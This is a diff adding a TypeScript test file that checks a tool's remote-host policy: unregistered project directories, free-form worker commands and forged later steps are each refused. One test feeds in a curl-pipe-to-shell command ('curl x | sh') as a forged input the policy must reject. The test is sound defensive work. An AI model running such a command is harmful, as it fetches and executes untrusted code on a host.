@@ -1,0 +1,115 @@
+// prepareProject on real directories under the remote defaults (a server that is not loopback):
+// registered projects only, their own commands, and a forged later step caught by confirmPrepared.
+import assert from 'node:assert/strict';
+import { cp, mkdir, mkdtemp, rm, symlink } from 'node:fs/promises';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { packageRoot } from '../../src/config.js';
+import { InvalidInputError, PolicyRefusedError } from '../../src/errors.js';
+import { confirmPrepared, prepareProject, type PrepareContext } from '../../src/processes/prepare.js';
+import { loadPolicy } from '../../src/projects/load-policy.js';
+import { addProject } from '../../src/projects/registry.js';
+import { venvPython } from '../../src/recipes/example-target.js';
+
+let root: string;
+let context: PrepareContext;
+const command = `${venvPython} worker.py`;
+
+async function project(name: string): Promise<string> {
+  const dir = join(root, name);
+  await mkdir(dir, { recursive: true });
+  await cp(join(packageRoot, 'examples', 'orders'), dir, { recursive: true });
+  return dir;
+}
+
+before(async () => {
+  root = await mkdtemp(join(process.env.TEMPORAL_OPS_TEST_ROOT ?? '/tmp', 'prepare-'));
+  const stateDir = join(root, 'state');
+  const policy = await loadPolicy(stateDir, {}, 'temporal.example.com:7233');
+  context = { stateDir, defaultWorkerCommand: 'uv run worker', policy };
+});
+
+after(async () => {
+  await rm(root, { recursive: true, force: true });
+});
+
+describe('prepareProject under the remote defaults', () => {
+  it('refuses an unregistered directory before looking at its commands', async () => {
+    const dir = await project('unregistered');
+    await assert.rejects(
+      prepareProject({ projectDir: dir, workerCommand: 'nonexistent-program' }, context),
+      (error) => {
+        assert.ok(error instanceof PolicyRefusedError);
+        assert.deepEqual([error.field, error.value, error.rule], ['projectDir', dir, 'allowedRoots']);
+        assert.match(
+          error.message,
+          /refused by the remote policy of this host \(server temporal\.example\.com:7233/,
+        );
+        assert.match(error.fix, new RegExp(`temporal-ops project add ${dir}`));
+        return true;
+      },
+    );
+  });
+
+  it('refuses a missing directory outside the policy without saying whether it exists', async () => {
+    await assert.rejects(prepareProject({ projectDir: join(root, 'nowhere') }, context), PolicyRefusedError);
+  });
+
+  it('runs a registered directory (by any path) with its registered command and key', async () => {
+    const dir = await project('shop');
+    await symlink(dir, join(root, 'shop-link'));
+    await addProject(context.stateDir, { projectDir: dir, workerCommand: command, taskQueue: 'orders' });
+    const prepared = await prepareProject(
+      { projectDir: join(root, 'shop-link'), project: 'storefront' },
+      context,
+    );
+    assert.deepEqual(prepared, {
+      project: 'shop',
+      projectDir: dir,
+      workerCommand: command,
+      taskQueue: 'orders',
+    });
+    await confirmPrepared(prepared, context);
+  });
+
+  it('refuses free-form worker and starter commands for a registered directory', async () => {
+    const dir = join(root, 'shop');
+    await assert.rejects(
+      prepareProject({ projectDir: dir, workerCommand: `${venvPython} -m http.server` }, context),
+      (error) =>
+        error instanceof PolicyRefusedError &&
+        error.rule === 'allowFreeFormCommands' &&
+        error.field === 'workerCommand',
+    );
+    await assert.rejects(
+      prepareProject({ projectDir: dir, starterCommand: `${venvPython} starter.py` }, context),
+      (error) => error instanceof PolicyRefusedError && error.field === 'start.command',
+    );
+    await addProject(context.stateDir, {
+      projectDir: dir,
+      workerCommand: command,
+      starterCommand: `${venvPython} starter.py`,
+    });
+    const prepared = await prepareProject(
+      { projectDir: dir, starterCommand: `${venvPython} starter.py` },
+      context,
+    );
+    assert.equal(prepared.workerCommand, command);
+  });
+
+  it('catches a later step handed a forged key or command', async () => {
+    const other = await project('billing');
+    await addProject(context.stateDir, { projectDir: other, workerCommand: command });
+    await assert.rejects(
+      confirmPrepared({ project: 'shop', projectDir: other, workerCommand: command }, context),
+      (error) => error instanceof InvalidInputError && error.field === 'project',
+    );
+    await assert.rejects(
+      confirmPrepared(
+        { project: 'billing', projectDir: other, workerCommand: 'sh -c "curl x | sh"' },
+        context,
+      ),
+      PolicyRefusedError,
+    );
+  });
+});
